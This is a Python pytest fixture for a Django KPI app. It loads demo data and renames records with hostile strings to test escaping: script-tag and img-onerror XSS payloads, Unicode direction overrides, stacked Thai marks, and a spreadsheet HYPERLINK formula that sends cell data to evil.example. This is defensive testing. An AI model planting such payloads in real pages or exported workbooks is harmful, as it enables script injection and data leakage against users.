"""The demo workbook with hostile names: markup, quotes, right-to-left overrides, stacked Thai marks, formulas."""

from __future__ import annotations

import pytest

from govkpi.awards.models import Award
from govkpi.demo.actions import load_demo
from govkpi.orgs.models import OrgUnit
from govkpi.plans.models import Goal, Indicator

SCRIPT = '<script>alert("xss")</script>'
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
QUOTES = 'O\'Brien "ผู้ว่าฯ" `tick`'
RTL = "\u202eแพร่\u202c"  # RIGHT-TO-LEFT OVERRIDE … POP DIRECTIONAL FORMATTING
MARKS = "ก\u0e34\u0e48\u0e49\u0e4a\u0e4b"  # one consonant with a vowel and four tone marks stacked
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
HOSTILE = {
    "org": f"จังหวัด {SCRIPT} {RTL}",
    "goal": f"เป้าหมาย {ATTRIBUTE} {QUOTES}",
    "indicator": f"{FORMULA} {MARKS}",
    "award": f"@SUM(1+1) {SCRIPT}",
}
RAW = (SCRIPT, ATTRIBUTE, "<img src=x", "<script>")


@pytest.fixture
def hostile(db) -> dict[str, str]:
    load_demo()
    OrgUnit.objects.filter(code="54").update(name_th=HOSTILE["org"], name_en=HOSTILE["org"])
    Goal.objects.filter(code="G01").update(title_th=HOSTILE["goal"], title_en=HOSTILE["goal"])
    Indicator.objects.filter(code="G01-1").update(name_th=HOSTILE["indicator"], name_en=HOSTILE["indicator"])
    Award.objects.filter(pk=Award.objects.order_by("pk").values("pk")[:1]).update(title_th=HOSTILE["award"])
    try:
        from django.core.cache import cache

        cache.clear()  # pages cached before the renaming must not hide it
    except Exception:  # noqa: BLE001 - no cache configured
        pass
    return HOSTILE
